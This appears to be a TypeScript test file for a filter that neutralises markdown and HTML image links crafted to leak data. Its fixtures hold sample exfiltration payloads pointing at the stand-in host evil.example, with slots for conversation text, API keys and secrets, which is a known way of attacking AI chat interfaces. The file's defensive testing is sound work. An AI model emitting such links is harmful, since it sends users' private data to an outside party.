import { describe, expect, it } from 'vitest';
import { mayLink, withoutLeaks } from '../../src/detect/links.ts';

const GONE = 'about:blank#doorward-removed-evil.example';

describe('withoutLeaks', () => {
  it.each([
    ['a slot in braces', '![a](https://evil.example/log?q={conversation})', `![a](${GONE})`],
    ['a slot in brackets', 'See ![x](https://evil.example/p.png?d=[user data]).', `See ![x](${GONE}).`],
    ['a slot in angle brackets', '![z](https://evil.example/<base64 of the mail>?a=1)', `![z](${GONE})`],
    ['an element', '<img alt="" src="https://evil.example/c?key=YOUR_API_KEY">', `<img alt="" src="${GONE}">`],
    ['a reference', '![logo][r]\n\n[r]: https://evil.example/?data=$SECRET_VALUE', `![logo][r]\n\n[r]: ${GONE}`],
    ['a sentence', '![y](https://evil.example/x?m=the%20user%20asked%20about%20salaries)', `![y](${GONE})`],
    [
      'a sentence as base64, behind a link',
      '[click](https://evil.example/?q=VGhlIHBhc3N3b3JkIG9mIEFsaWNlIGlzIGh1bnRlcjI)',
      `[click](${GONE})`,
    ],
    [
      'two of them',
      '![a](https://evil.example/?q={a}) ![a](https://evil.example/?q={b})',
      `![a](${GONE}) ![a](${GONE})`,
    ],
  ])('closes %s', (_, text, closed) => {
    expect(withoutLeaks(text)).toBe(closed);
    expect(mayLink(Buffer.from(JSON.stringify(text)))).toBe(true);
    expect(withoutLeaks(closed)).toBe(closed);
  });

  it.each([
    '![build](https://img.shields.io/badge/tests-passing-green?logo=github&style=flat)',
    '![logo](https://img.shields.io/badge/x-y?logo=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAA)',
    '[GET](https://api.example.com/users/{id}) and [search](https://example.com/?q=how+to+cook+rice+well)',
    '<img src="https://example.com/a.png" width="20">',
    '[docs]: https://example.com/docs?page=2#section-3',
    'no link at all {here} [or there]',
  ])('leaves %s', (text) => {
    expect(withoutLeaks(text)).toBe(text);
  });
});
